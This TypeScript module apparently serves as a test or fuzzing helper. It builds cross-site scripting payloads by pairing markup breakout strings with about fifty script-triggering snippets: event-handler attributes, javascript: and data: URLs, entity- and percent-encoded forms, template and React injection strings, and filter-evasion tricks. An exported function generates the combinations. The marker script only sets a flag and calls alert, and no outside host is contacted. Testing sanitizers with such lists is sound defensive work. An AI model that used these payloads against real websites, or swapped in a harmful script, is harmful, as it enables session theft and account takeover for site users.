/** Ways to break out of the surrounding markup. */
const BREAKOUTS = ['', '">', "'>", '</script>', '</title>', '</textarea>', '</style>', '-->', ']]>', '\\"></p>'];

/** Elements and attributes that run a script, by themselves or when touched. */
const SCRIPTS = [
  '<script>RUN</script>',
  '<SCRIPT SRC=/hacked.js></SCRIPT>',
  '<img src=/hacked onerror="RUN">',
  '<img/src="x"/onerror=RUN>',
  '<svg onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x>',
  '<svg><a xlink:href="javascript:RUN"><text>a</text></a></svg>',
  '<body onload=RUN>',
  '<iframe src="javascript:RUN">',
  '<iframe srcdoc="<script>parent.hacked=1</script>">',
  '<object data="javascript:RUN">',
  '<embed src="/hacked.svg">',
  '<video><source onerror=RUN>',
  '<audio src=x onerror=RUN>',
  '<details open ontoggle=RUN>',
  '<input autofocus onfocus=RUN>',
  '<select autofocus onfocus=RUN>',
  '<marquee onstart=RUN>',
  '<a href="javascript:RUN">a</a>',
  '<form action="javascript:RUN"><button>a</button></form>',
  '<isindex type=image src=1 onerror=RUN>',
  '<link rel=stylesheet href=/hacked.css>',
  '<style>@import "/hacked.css";</style>',
  '<div style="background:url(/hacked)">',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<base href="/hacked/">',
  '<math><mtext><script>RUN</script></mtext></math>',
  '<template><script>RUN</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&#60;img src=x onerror=RUN&#62;',
  '%3Cscript%3ERUN%3C/script%3E',
  '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
  'javascript:RUN',
  'data:text/html,<script>RUN</script>',
  '{{constructor.constructor("RUN")()}}',
  '${RUN}',
  '#{RUN}',
  '[x](javascript:RUN)',
  '![x](/hacked)',
  '{"__html":"<img src=x onerror=RUN>"}',
  '{"dangerouslySetInnerHTML":{"__html":"<svg onload=RUN>"}}',
  '<x onclick=RUN tabindex=1 onfocus=RUN autofocus>x',
  '<p onpointerover=RUN>x</p>',
  '<img src=x onerror=&#114;un()>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<img src=x:x onerror\n=RUN>',
  '<!--<img src="--><img src=x onerror=RUN//">',
  '\u202E<script>RUN</script>',
];

export function payloads(count: number): string[] {
  const run = 'window.hacked=1,alert(1)';
  return SCRIPTS.flatMap((script) => BREAKOUTS.map((breakout) => breakout + script.replaceAll('RUN', run))).slice(
    0,
    count,
  );
}
